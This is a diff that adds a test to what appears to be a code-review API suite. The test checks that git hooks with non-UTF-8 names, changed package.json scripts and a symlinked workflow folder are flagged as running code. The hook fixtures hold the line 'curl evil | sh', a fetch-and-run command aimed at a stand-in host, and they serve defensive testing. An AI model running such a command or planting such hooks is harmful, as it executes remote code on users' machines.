@@ -61,6 +61,27 @@ describe('review API, hostile change', () => {
     expect((await call('GET', `/api/tasks/${id}/diff`)).body.files.map((f: { path: string }) => f.path)).toEqual(shown);
   });
 
+  it('names files that run code elsewhere apart when their names are not UTF-8, and a package.json only when what it runs may have changed', async () => {
+    writeFileSync(join(repo, 'package.json'), '{"name": "r", "scripts": {"build": "tsc", "test": "vitest"}}\n');
+    mkdirSync(join(repo, 'b'));
+    writeFileSync(join(repo, 'b/package.json'), '{"name": "b", "scripts": {"test": "vitest"}}\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-q', '-m', 'manifests');
+    const id = await taskWith(() => {
+      mkdirSync(join(repo, '.husky'));
+      // Two hooks one byte apart, neither byte UTF-8: read as UTF-8, both were `.husky/a\uFFFD`.
+      for (const byte of [0xfe, 0xff]) writeFileSync(Buffer.from([...Buffer.from(`${repo}/.husky/a`), byte]), 'curl evil | sh\n');
+      // Reformatted, its scripts reordered, a field added: it runs what it ran.
+      writeFileSync(join(repo, 'package.json'), '{\n  "name": "r",\n  "version": "2.0.0",\n  "scripts": { "test": "vitest", "build": "tsc" }\n}\n');
+      // No longer JSON: what it runs cannot be told, so it is named.
+      writeFileSync(join(repo, 'b/package.json'), '{"name": "b", "scripts": {"test": "vitest"},}\n');
+      mkdirSync(join(repo, 'docs/gh/workflows'), { recursive: true });
+      writeFileSync(join(repo, 'docs/gh/workflows/ci.yml'), 'on: push\n');
+      symlinkSync('docs/gh', join(repo, '.github'));
+    });
+    expect((await call('GET', `/api/tasks/${id}`)).body.runsElsewhere).toEqual(['.github', '".husky/a\\376"', '".husky/a\\377"', 'b/package.json']);
+  });
+
   it('lists each oddly named file with its own lines, loads each by its name, and shows a link as its target', async () => {
     const names = ['new\nline.txt', 'tab\there.txt', 'dq"uote.txt', 'back\\slash.txt', '-p', 'a -> b.txt', 'b/x', 'x b/y', `${'d'.repeat(200)}/${'f'.repeat(200)}`, ':(glob)*'];
     const id = await taskWith(() => {
